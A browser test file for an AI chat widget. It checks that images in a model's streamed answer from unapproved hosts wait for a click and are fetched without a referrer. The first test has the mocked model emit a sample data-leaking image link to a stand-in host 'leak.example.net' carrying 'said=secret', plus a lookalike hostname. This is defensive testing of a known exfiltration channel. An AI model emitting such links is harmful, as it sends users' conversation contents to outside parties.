import { afterAll, expect, test } from "vitest";
import { serveBots } from "../serve-bots.ts";
import { serveChatPage } from "./chat-page.ts";
import { startModelProvider, type ModelAnswer } from "./model-provider.ts";

/* A model's image address can carry what a visitor wrote to another host. */

const provider = await startModelProvider();
afterAll(() => provider.close());
const { server, browser } = await serveBots(["e2e/streaming/bots"], {
  BANTER_AI_OPENAI_KEY: "key",
  BANTER_AI_OPENAI_BASE_URL: provider.baseUrl,
});

const PIXEL = Buffer.from("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "base64");

test("images load after a click, or at once from a host that the owner allows", async () => {
  const page = await (await browser.newContext()).newPage();
  const requested: string[] = [];
  const referrers: (string | undefined)[] = [];
  await page.route(/example\.(com|net)/, (route) => {
    requested.push(route.request().url());
    referrers.push(route.request().headers()["referer"]);
    return route.fulfill({ contentType: "image/gif", body: PIXEL });
  });
  await page.goto(await serveChatPage(page, server.url, '{ typebot: "asks-model" }'));
  const answering = new Promise<ModelAnswer>((resolve) => provider.plan.push(resolve));
  await page.getByRole("textbox").fill("Show me");
  await page.keyboard.press("Enter");
  const answer = await answering;
  answer.write(
    "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
  );
  answer.write(" ![Odd](https://pictures.example.com.leak.example.net/a.gif)");
  await page.getByRole("img", { name: "Logo" }).waitFor();
  const show = page.getByRole("button", { name: "Map Show image from leak.example.net" });
  await show.waitFor();
  expect(requested).toEqual(["https://pictures.example.com/logo.gif"]);
  await show.press("Enter");
  const map = page.getByRole("img", { name: "Map" });
  await map.waitFor();
  // The button, which had the focus, is gone.
  const hasFocus = () => map.evaluate((image) => image.matches(":focus"));
  await expect.poll(hasFocus).toBe(true);
  answer.finish();
  await page.getByText("Did that help?").first().waitFor();
  await page.locator(".banter-input-container[data-blockid]").waitFor();
  expect(await hasFocus()).toBe(true);
  await expect.poll(() => requested.length).toBe(2);
  expect(requested[1]).toBe("https://leak.example.net/map.gif?said=secret");
  expect(referrers).toEqual([undefined, undefined]);
  expect(await page.getByRole("button", { name: "Odd" }).count()).toBe(1);
  await page.context().close();
});

test("an image that the visitor asks for is no new message", async () => {
  const page = await (await browser.newContext({ viewport: { width: 400, height: 600 } })).newPage();
  const tall = '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"/>';
  await page.route(/example\.net/, (route) => route.fulfill({ contentType: "image/svg+xml", body: tall }));
  await page.goto(await serveChatPage(page, server.url, '{ typebot: "asks-model" }'));
  provider.plan.push((answer) => {
    answer.write("![Map](https://leak.example.net/map.svg)\n\n");
    answer.write(Array.from({ length: 60 }, (_, line) => `- line ${line} of it\n`).join(""));
    answer.finish();
  });
  await page.getByRole("textbox").fill("Show me");
  await page.keyboard.press("Enter");
  await page.locator(".banter-streaming-container li").nth(59).waitFor();
  // The reply's actions appear with its end, and the next question after it. Scrolling back before the view has followed
  // there would leave the question as a new message.
  await page.getByRole("button", { name: /copy/i }).last().waitFor();
  await page.getByRole("log").getByText("Did that help?").first().waitFor();
  await page.locator(".banter-input-container[data-blockid]").waitFor();
  const distanceToEnd = () =>
    page
      .locator(".scrollable-container")
      .evaluate((view) => view.scrollHeight - view.scrollTop - view.clientHeight);
  await expect.poll(distanceToEnd).toBeLessThan(2);
  const show = page.getByRole("button", { name: /Show image/ });
  await page.mouse.move(200, 200);
  await expect
    .poll(async () => {
      await page.mouse.wheel(0, -400);
      return show.evaluate((button) => button.getBoundingClientRect().top);
    })
    .toBeGreaterThan(60);
  await show.click();
  const height = () => page.getByRole("img", { name: "Map" }).evaluate((image) => image.clientHeight);
  await expect.poll(height).toBeGreaterThan(300);
  // Two frames: the growth is observed, then rendered.
  await page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
  );
  expect(await page.locator(".banter-new-messages").count()).toBe(0);
  await page.context().close();
});
